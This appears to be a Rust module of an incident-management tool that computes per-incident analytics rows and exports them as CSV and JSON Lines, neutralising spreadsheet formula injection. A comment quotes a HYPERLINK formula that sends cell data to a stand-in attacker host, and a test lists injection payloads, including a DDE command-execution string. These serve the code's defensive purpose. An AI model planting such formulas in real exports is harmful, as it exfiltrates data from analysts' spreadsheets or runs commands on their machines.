//! Facts for analysis across incidents: one flat row per incident ([`Facts`]), its CSV and JSON Lines forms, and
//! the filter analysts narrow rows with.
//!
//! Durations are differences of two named lifecycle timestamps, never a bare "time to X": an analyst must know
//! which pair a number measures (impact vs response; see `docs/analytics.md`, which documents every column). A
//! duration is empty when either end is missing. The row is computed from the document and its history, so it is
//! the same whichever server computes it.

use chrono::{DateTime, SecondsFormat, Utc};
use serde::{Deserialize, Serialize, Serializer};
use serde_json::Value;

use crate::history::Record;
use crate::schema::{FieldKind, Stage};
use crate::view::{FieldValue, IncidentView, Item};

/// The checklist field whose items are follow-ups (TODOs and bugs filed), by its key in the built-in templates.
pub const TODOS_KEY: &str = "todos";

pub use crate::schema::EXIT_CRITERIA_KEY;

/// One incident as a row of facts. The serde names are the CSV column names ([`COLUMNS`]).
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Facts {
    /// The document id.
    pub id: String,
    /// The incident number.
    pub number: Option<i64>,
    /// The title.
    pub title: String,
    /// The template id.
    pub template: String,
    /// The template's version (a hash of its source) at declaration; empty for incidents declared before templates
    /// had versions.
    pub template_version: Option<String>,
    /// The severity, as the template names it.
    pub severity: Option<String>,
    /// The lifecycle state.
    pub status: Option<String>,
    /// Whether it is a drill.
    pub drill: bool,
    /// Lifecycle: the outage began.
    #[serde(serialize_with = "time")]
    pub impact_started_at: Option<DateTime<Utc>>,
    /// Lifecycle: someone or something noticed.
    #[serde(serialize_with = "time")]
    pub detected_at: Option<DateTime<Utc>>,
    /// Lifecycle: declared (the creation time if the stamp was cleared).
    #[serde(serialize_with = "time")]
    pub declared_at: Option<DateTime<Utc>>,
    /// Lifecycle: the impact stopped.
    #[serde(serialize_with = "time")]
    pub mitigated_at: Option<DateTime<Utc>>,
    /// Lifecycle: the underlying problem was fixed.
    #[serde(serialize_with = "time")]
    pub resolved_at: Option<DateTime<Utc>>,
    /// Lifecycle: the response ended.
    #[serde(serialize_with = "time")]
    pub closed_at: Option<DateTime<Utc>>,
    /// detected − impact started, in seconds.
    pub time_to_detect_seconds: Option<i64>,
    /// declared − impact started, in seconds.
    pub time_to_declare_seconds: Option<i64>,
    /// mitigated − impact started, in seconds.
    pub time_to_mitigate_seconds: Option<i64>,
    /// resolved − impact started, in seconds.
    pub time_to_resolve_seconds: Option<i64>,
    /// closed − declared, in seconds: the response, not the outage.
    pub incident_duration_seconds: Option<i64>,
    /// Times command passed from one person to another.
    pub handoffs: usize,
    /// How many people held command.
    pub distinct_commanders: usize,
    /// Who held command, in order.
    pub commanders: Vec<String>,
    /// How many people took part (editors, role holders, timeline authors).
    pub responders: usize,
    /// Who they were, sorted.
    pub responder_names: Vec<String>,
    /// Timeline entries.
    pub timeline_entries: usize,
    /// Follow-ups still TODO.
    pub todos_open: usize,
    /// Follow-ups DONE.
    pub todos_done: usize,
    /// Exit criteria in all.
    pub exit_criteria_total: usize,
    /// Exit criteria DONE.
    pub exit_criteria_done: usize,
    /// Whether there were exit criteria and all of them were met.
    pub exit_criteria_met: bool,
    /// Deviations from normal on the revert list.
    pub deviations_total: usize,
    /// Deviations not reverted (for a closed incident: left open at close, by an override).
    pub deviations_open: usize,
    /// Deviations reverted.
    pub deviations_reverted: usize,
    /// Changes to production in the operations log.
    pub changes_total: usize,
    /// Of them, made outside the Operations role and its delegations: freelancing.
    pub changes_uncoordinated: usize,
    /// Classifying facts from the template's own fields: `key=value` for each set choice other than severity,
    /// `key` for each flag that is on and each declaration question answered yes.
    pub tags: Vec<String>,
    /// Who held which role when (the record's role intervals), for the per-person role history; not a column.
    #[serde(skip)]
    pub roles: Vec<crate::history::RoleSpan>,
}

/// The CSV columns, in order: exactly the serde names of [`Facts`].
pub const COLUMNS: [&str; 36] = [
    "id",
    "number",
    "title",
    "template",
    "template_version",
    "severity",
    "status",
    "drill",
    "impact_started_at",
    "detected_at",
    "declared_at",
    "mitigated_at",
    "resolved_at",
    "closed_at",
    "time_to_detect_seconds",
    "time_to_declare_seconds",
    "time_to_mitigate_seconds",
    "time_to_resolve_seconds",
    "incident_duration_seconds",
    "handoffs",
    "distinct_commanders",
    "commanders",
    "responders",
    "responder_names",
    "timeline_entries",
    "todos_open",
    "todos_done",
    "exit_criteria_total",
    "exit_criteria_done",
    "exit_criteria_met",
    "deviations_total",
    "deviations_open",
    "deviations_reverted",
    "changes_total",
    "changes_uncoordinated",
    "tags",
];

impl Facts {
    /// The row of document `id`, from its view and the record of its history (both at the same heads).
    pub fn new(id: &str, view: &IncidentView, record: &Record) -> Facts {
        let stamps = match view.field_of_kind(FieldKind::Timestamps).map(|f| &f.value) {
            Some(FieldValue::Timestamps(stamps)) => stamps.clone(),
            _ => Default::default(),
        };
        let at = |stage: Stage| stamps.get(&stage).copied();
        let declared = at(Stage::Declared).or(view.headline.created_at);
        let impact = at(Stage::ImpactStarted);
        let between = |from: Option<DateTime<Utc>>, to: Option<DateTime<Utc>>| {
            Some((to? - from?).num_seconds())
        };
        let checklist = |key: &str| -> (usize, usize) {
            match view.field(key).map(|f| &f.value) {
                Some(FieldValue::Checklist(items)) => {
                    let done = items.iter().filter(|i: &&Item| i.done).count();
                    (items.len(), done)
                }
                _ => (0, 0),
            }
        };
        let (todos, todos_done) = checklist(TODOS_KEY);
        let (exit_total, exit_done) = checklist(EXIT_CRITERIA_KEY);
        let commanders: Vec<String> = record
            .distinct_commanders()
            .into_iter()
            .map(str::to_owned)
            .collect();
        let responders = record.responders(view);
        let (deviations_total, deviations_reverted) =
            match view.field_of_kind(FieldKind::Deviations).map(|f| &f.value) {
                Some(FieldValue::Deviations(list)) => (
                    list.len(),
                    list.iter().filter(|d| d.reverted.is_some()).count(),
                ),
                _ => (0, 0),
            };
        let (changes_total, changes_uncoordinated) =
            match view.field_of_kind(FieldKind::Changes).map(|f| &f.value) {
                Some(FieldValue::Changes(list)) => {
                    (list.len(), list.iter().filter(|c| c.uncoordinated).count())
                }
                _ => (0, 0),
            };
        Facts {
            deviations_total,
            deviations_open: deviations_total - deviations_reverted,
            deviations_reverted,
            changes_total,
            changes_uncoordinated,
            id: id.to_owned(),
            number: view.headline.number,
            title: view.headline.title.clone(),
            template: view.headline.template.clone(),
            template_version: view.template_version.clone(),
            severity: view.headline.severity.clone(),
            status: view.headline.status.clone(),
            drill: view.headline.drill,
            impact_started_at: impact,
            detected_at: at(Stage::Detected),
            declared_at: declared,
            mitigated_at: at(Stage::Mitigated),
            resolved_at: at(Stage::Resolved),
            closed_at: at(Stage::Closed),
            time_to_detect_seconds: between(impact, at(Stage::Detected)),
            time_to_declare_seconds: between(impact, declared),
            time_to_mitigate_seconds: between(impact, at(Stage::Mitigated)),
            time_to_resolve_seconds: between(impact, at(Stage::Resolved)),
            incident_duration_seconds: between(declared, at(Stage::Closed)),
            handoffs: record.handoffs(),
            distinct_commanders: commanders.len(),
            commanders,
            responders: responders.len(),
            responder_names: responders,
            timeline_entries: match view.field_of_kind(FieldKind::Timeline).map(|f| &f.value) {
                Some(FieldValue::Timeline(entries)) => entries.len(),
                _ => 0,
            },
            todos_open: todos - todos_done,
            todos_done,
            exit_criteria_total: exit_total,
            exit_criteria_done: exit_done,
            exit_criteria_met: exit_total > 0 && exit_done == exit_total,
            tags: tags(view),
            roles: record.roles.clone(),
        }
    }
}

/// See [`Facts::tags`].
fn tags(view: &IncidentView) -> Vec<String> {
    let mut tags = Vec::new();
    for field in &view.fields {
        match (&field.def.kind, &field.value) {
            (FieldKind::Choice, FieldValue::Choice(Some(v))) if field.def.key != "severity" => {
                tags.push(format!("{}={v}", field.def.key));
            }
            (FieldKind::Flag, FieldValue::Flag(true)) => tags.push(field.def.key.clone()),
            (FieldKind::Questions, FieldValue::Questions(answers)) => {
                tags.extend(
                    answers
                        .iter()
                        .filter(|(_, yes)| **yes)
                        .map(|(q, _)| q.clone()),
                );
            }
            _ => {}
        }
    }
    tags
}

/// Which rows an analysis wants. Every condition is optional; by default drills are left out, since they are
/// practice and would skew every distribution.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Filter {
    /// Only incidents declared at or after this moment.
    pub from: Option<DateTime<Utc>>,
    /// Only incidents declared before this moment.
    pub to: Option<DateTime<Utc>>,
    /// Only incidents in this lifecycle state.
    pub status: Option<String>,
    /// Only incidents of this template.
    pub template: Option<String>,
    /// Keep drills too.
    pub include_drills: bool,
}

impl Filter {
    /// Whether `row` passes every condition. An incident with no declaration time fails a time bound.
    pub fn accepts(&self, row: &Facts) -> bool {
        (self.include_drills || !row.drill)
            && self
                .status
                .as_ref()
                .is_none_or(|s| row.status.as_ref() == Some(s))
            && self.template.as_ref().is_none_or(|t| &row.template == t)
            && self
                .from
                .is_none_or(|from| row.declared_at.is_some_and(|d| d >= from))
            && self
                .to
                .is_none_or(|to| row.declared_at.is_some_and(|d| d < to))
    }
}

/// Every time of a row in one format: RFC 3339 in UTC with milliseconds and `Z` (`2026-11-25T03:41:00.000Z`).
/// chrono's own form drops a fraction of zero, so a column mixed `…:51.630Z` (a time the server stamped) with
/// `…:00Z` (one a person set to the minute), and readers that infer one format per column (pandas' `to_datetime`)
/// refused it. Stored times are milliseconds, so nothing is rounded away.
fn time<S: Serializer>(at: &Option<DateTime<Utc>>, serializer: S) -> Result<S::Ok, S::Error> {
    match at {
        Some(at) => serializer.serialize_str(&at.to_rfc3339_opts(SecondsFormat::Millis, true)),
        None => serializer.serialize_none(),
    }
}

/// The rows as CSV (RFC 4180: a header line, CRLF line ends, quotes where a cell needs them). Times are RFC 3339 UTC
/// with milliseconds ([`time`]), durations whole seconds, lists joined with `;`, absent values empty. Text that a
/// spreadsheet would take for a formula is neutralised ([`neutralise`]); numbers are written as they are, negative ones
/// included.
pub fn csv(rows: &[Facts]) -> String {
    csv_table(&COLUMNS, rows)
}

/// Any rows as CSV, by the rules of [`csv`]: each row serialized, and its fields named in `columns` written in that
/// order (an absent field is an empty cell). The server's other tables (the audit log) use it, so every CSV it
/// writes neutralises formulas the same way.
pub fn csv_table<T: Serialize>(columns: &[&str], rows: &[T]) -> String {
    let mut out = columns.join(",");
    out.push_str("\r\n");
    for row in rows {
        let value = serde_json::to_value(row).unwrap_or(Value::Null);
        let cells: Vec<String> = columns
            .iter()
            .map(|column| quote(&cell(value.get(column).unwrap_or(&Value::Null))))
            .collect();
        out.push_str(&cells.join(","));
        out.push_str("\r\n");
    }
    out
}

/// The rows as JSON Lines: one JSON object per line, with the CSV's column names, lists as arrays.
pub fn jsonl(rows: &[Facts]) -> String {
    let mut out = String::new();
    for row in rows {
        if let Ok(line) = serde_json::to_string(row) {
            out.push_str(&line);
            out.push('\n');
        }
    }
    out
}

/// One CSV cell. Only text goes through [`neutralise`] (each list item on its own, since importers that split on
/// `;` make every item a cell); numbers and booleans are the serializer's, so a negative duration stays a number.
fn cell(value: &Value) -> String {
    match value {
        Value::Null => String::new(),
        Value::String(s) => neutralise(s),
        Value::Array(items) => items.iter().map(cell).collect::<Vec<_>>().join(";"),
        other => other.to_string(),
    }
}

/// The characters that make a spreadsheet (Excel, LibreOffice Calc, Google Sheets) read a cell as a formula when
/// they start it: OWASP's CSV injection list, with NUL from ASVS 1.2.10.
const FORMULA_STARTS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\0'];

/// Text that a spreadsheet shows as text: titles, names and tags are typed by people, and a cell such as
/// `=HYPERLINK("https://evil.example/?"&A1, "details")` would run in the analyst's spreadsheet. A cell that
/// starts with one of [`FORMULA_STARTS`], also after leading spaces (importers that trim them), gets a `'` in
/// front, OWASP's advice: spreadsheets take it as "this is text" and do not show it. JSON Lines keeps the raw value.
fn neutralise(text: &str) -> String {
    if text.trim_start_matches(' ').starts_with(FORMULA_STARTS) {
        format!("'{text}")
    } else {
        text.to_owned()
    }
}

fn quote(cell: &str) -> String {
    if cell.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", cell.replace('"', "\"\""))
    } else {
        cell.to_owned()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A row with nothing in it.
    fn empty_row() -> Facts {
        Facts {
            id: String::new(),
            number: None,
            title: String::new(),
            template: String::new(),
            template_version: None,
            severity: None,
            status: None,
            drill: false,
            impact_started_at: None,
            detected_at: None,
            declared_at: None,
            mitigated_at: None,
            resolved_at: None,
            closed_at: None,
            time_to_detect_seconds: None,
            time_to_declare_seconds: None,
            time_to_mitigate_seconds: None,
            time_to_resolve_seconds: None,
            incident_duration_seconds: None,
            handoffs: 0,
            distinct_commanders: 0,
            commanders: Vec::new(),
            responders: 0,
            responder_names: Vec::new(),
            timeline_entries: 0,
            todos_open: 0,
            todos_done: 0,
            exit_criteria_total: 0,
            exit_criteria_done: 0,
            exit_criteria_met: false,
            deviations_total: 0,
            deviations_open: 0,
            deviations_reverted: 0,
            changes_total: 0,
            changes_uncoordinated: 0,
            tags: Vec::new(),
            roles: Vec::new(),
        }
    }

    #[test]
    fn columns_are_the_serde_names_in_order() {
        let row = empty_row();
        let value = serde_json::to_value(&row).expect("serializes");
        let keys: Vec<&str> = value
            .as_object()
            .expect("an object")
            .keys()
            .map(String::as_str)
            .collect();
        let mut sorted_columns = COLUMNS.to_vec();
        sorted_columns.sort_unstable();
        let mut sorted_keys = keys.clone();
        sorted_keys.sort_unstable();
        assert_eq!(sorted_keys, sorted_columns);
    }

    #[test]
    fn formula_looking_text_is_neutralised_and_numbers_are_not() {
        for hostile in [
            "=1+1",
            "+1",
            "-2+3",
            "@SUM(A1)",
            "\tx",
            "\rx",
            "\0x",
            "  =cmd|'/c calc'!A1",
        ] {
            assert_eq!(neutralise(hostile), format!("'{hostile}"), "{hostile:?}");
        }
        for fine in [
            "Checkout errors",
            "a=b",
            "",
            "'=already",
            "SEV1",
            "2026-11-25T03:41:00Z",
        ] {
            assert_eq!(neutralise(fine), fine);
        }
        assert_eq!(cell(&serde_json::json!(-3600)), "-3600");
        assert_eq!(cell(&serde_json::json!("-3600")), "'-3600");
        assert_eq!(
            cell(&serde_json::json!(["alice", "=bob", "@carol"])),
            "alice;'=bob;'@carol"
        );
    }

    #[test]
    fn every_time_has_one_format_with_milliseconds_and_z() {
        let at = |text: &str| Some(text.parse::<DateTime<Utc>>().expect("a time"));
        let row = Facts {
            impact_started_at: at("2026-11-25T05:50:00Z"),
            declared_at: at("2026-11-25T05:54:51.630Z"),
            closed_at: at("2026-11-25T07:00:00.5+01:00"),
            ..empty_row()
        };
        let csv = csv(std::slice::from_ref(&row));
        let jsonl = jsonl(std::slice::from_ref(&row));
        for (column, expected) in [
            ("impact_started_at", "2026-11-25T05:50:00.000Z"),
            ("declared_at", "2026-11-25T05:54:51.630Z"),
            ("closed_at", "2026-11-25T06:00:00.500Z"),
        ] {
            assert!(
                csv.contains(&format!(",{expected},")),
                "{column} in CSV: {csv}"
            );
            assert!(
                jsonl.contains(&format!("\"{column}\":\"{expected}\"")),
                "{column} in JSON Lines: {jsonl}"
            );
        }
        assert!(jsonl.contains("\"detected_at\":null"), "{jsonl}");
        let back: Facts = serde_json::from_str(jsonl.trim()).expect("reads back");
        assert_eq!(back, row);
    }

    #[test]
    fn cells_that_need_quotes_get_them() {
        assert_eq!(quote("plain"), "plain");
        assert_eq!(quote("a,b"), "\"a,b\"");
        assert_eq!(quote("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(quote("two\nlines"), "\"two\nlines\"");
    }
}
